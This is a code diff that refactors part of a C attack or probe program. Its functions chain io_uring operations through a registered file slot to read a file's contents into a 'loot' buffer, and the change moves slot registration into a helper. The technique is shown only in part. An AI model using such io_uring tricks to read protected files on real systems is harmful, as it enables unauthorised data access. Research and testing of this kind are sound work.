@@ -9,7 +9,6 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
-#include <sys/syscall.h>
 #include <unistd.h>
 
 #include "attack.h"
@@ -76,11 +75,10 @@ static int read_by_splice(const char *path)
 		{ .opcode = IORING_OP_NOP },
 	};
 	struct ring ring;
-	int none = -1, ends[2];
+	int ends[2];
 	char byte;
 
-	if (pipe(ends) || set_up_ring(&ring, 0) ||
-	    syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_FILES, &none, 1))
+	if (pipe(ends) || set_up_ring(&ring, 0) || make_slot(&ring))
 		return -1;
 	chain[0].file_index = 1;
 	chain[1].fd = ends[1];
@@ -103,11 +101,9 @@ static int read_from_slot(const char *path)
 		{ .opcode = IORING_OP_NOP },
 	};
 	struct ring ring;
-	int none = -1;
 
 	chain[0].file_index = 1;
-	if (set_up_ring(&ring, 0) ||
-	    syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_FILES, &none, 1))
+	if (set_up_ring(&ring, 0) || make_slot(&ring))
 		return -1;
 	return submit(&ring, chain, 3, 1) || next_answer(&ring) < 0 || !*loot ? -1 : 1;
 }
